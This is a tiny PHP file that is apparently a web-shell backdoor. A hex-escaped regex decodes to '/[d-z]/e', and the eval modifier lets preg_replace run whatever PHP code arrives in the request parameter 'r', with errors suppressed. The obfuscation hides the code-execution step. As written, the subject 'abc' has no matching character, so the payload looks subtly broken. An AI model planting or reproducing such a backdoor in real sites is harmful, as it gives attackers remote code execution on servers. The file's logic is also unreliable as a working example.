<?php
$p = "\x2f\x5b\x64\x2d\x7a\x5d\x2f\x65";
echo @preg_replace($p, $_REQUEST['r'], 'abc');
